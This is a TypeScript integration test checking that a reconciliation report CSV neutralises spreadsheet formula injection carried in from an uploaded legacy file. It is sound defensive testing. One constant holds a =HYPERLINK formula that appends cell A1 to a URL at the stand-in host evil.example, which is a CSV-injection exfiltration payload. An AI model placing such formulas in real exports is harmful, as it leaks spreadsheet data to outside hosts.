/**
 * Text from an uploaded legacy file reaches the reconciliation report; opened in a spreadsheet, a
 * cell starting with = + - @ would run as a formula. The report CSV neutralises it, and keeps
 * numbers (negative differences included) as numbers.
 */
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiClient, startTestServer, type TestServer } from '../support/test-server.ts';
import { ourBe200Report } from '../support/our-be200.ts';

const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

describe('the reconciliation report CSV over HTTP', () => {
  let server: TestServer;
  let client: ReturnType<typeof apiClient>;
  let legacyCsv: string;
  beforeAll(async () => {
    server = await startTestServer();
    client = apiClient(server.url);
    await client.post('/api/setup', { name: 'admin', password: 'a long admin password' });
    const report = await ourBe200Report(server);
    const at = (name: string) => report.header.indexOf(name);
    // A client only the legacy file has, named with a formula; and one cell one lower than ours.
    const extra = report.header.map((name) =>
      name === 'ClientNumber' ? '990001' : name === 'ClientName' ? HOSTILE_NAME : name === 'BillingCode' ? '@X' : '1',
    );
    const rows = report.rows.map((row, i) => (i === 0 ? row.map((value, j) => (j === at('SecCalls') ? String(Number(value) + 1) : value)) : row));
    legacyCsv = Papa.unparse({ fields: [...report.header], data: [...rows.map((row) => [...row]), extra] });
  });
  afterAll(() => server.stop());

  it('neutralises a legacy client name that is a formula, and keeps differences as numbers', async () => {
    const created = await client.post('/api/reconciliations', {
      snapshot: server.snapshotId,
      fileName: 'be200.csv',
      content: Buffer.from(legacyCsv).toString('base64'),
    });
    expect(created.status).toBe(200);
    const report = await client.get(`/api/reconciliations/${created.body.id}/report`);
    expect(report.status).toBe(200);
    const cells = Papa.parse<string[]>(String(report.body).trim()).data.flat();
    expect(cells).toContain(`'${HOSTILE_NAME}`);
    expect(cells.filter((cell) => /^[=+@\t\r]/.test(cell) || /^-(?!\d)/.test(cell))).toEqual([]);
    expect(cells.some((cell) => /^-\d/.test(cell))).toBe(true);
  });
});
